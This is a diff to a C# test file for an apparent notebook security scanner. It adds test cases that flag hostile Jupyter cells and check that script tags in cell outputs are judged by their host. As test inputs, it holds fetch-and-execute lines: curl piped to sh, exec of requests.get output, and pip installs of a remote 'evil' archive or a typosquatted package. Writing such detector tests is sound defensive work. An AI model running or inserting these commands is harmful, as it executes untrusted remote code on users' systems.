@@ -25,6 +25,8 @@ public sealed class NotebookTests
     [InlineData("import requests\nexec(requests.get('http://example.com').text)")]
     [InlineData("!pip install http://203.0.113.9/evil-1.0.tar.gz")]
     [InlineData("!pip install reqeusts")]
+    [InlineData("get_ipython().system('curl http://example.com/x|sh')")]
+    [InlineData("get_ipython().run_cell_magic('bash', '', 'curl http://example.com/x | sh\\n')")]
     public void T166_HostileCellsAreFlagged(string cell)
     {
         TargetReport report = Scans.Of(Notebook("import numpy as np", cell), "n.ipynb");
@@ -48,4 +50,14 @@ public sealed class NotebookTests
 
     [Fact]
     public void ANotebookWithoutItsNameIsTold() => Assert.Contains("notebook", Scans.Of(Notebook("1"), "x").Formats);
+
+    [Theory]
+    [InlineData("http://scripts.example.net/x.js", Verdict.Suspicious)]
+    [InlineData("https://cdn.plot.ly/plotly-2.8.3.min.js", Verdict.Passed)]
+    public void T166_ScriptsOfOutputsAreToldByTheirHosts(string source, Verdict verdict)
+    {
+        string html = JsonSerializer.Serialize($"<div></div><script src=\"{source}\"></script>");
+        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes($$$"""{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [{"output_type": "display_data", "data": {"text/html": [{{{html}}}]}, "metadata": {}}], "source": ["1"]}], "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5}"""), "n.ipynb");
+        Assert.True(report.Verdict == verdict, report.Describe());
+    }
 }
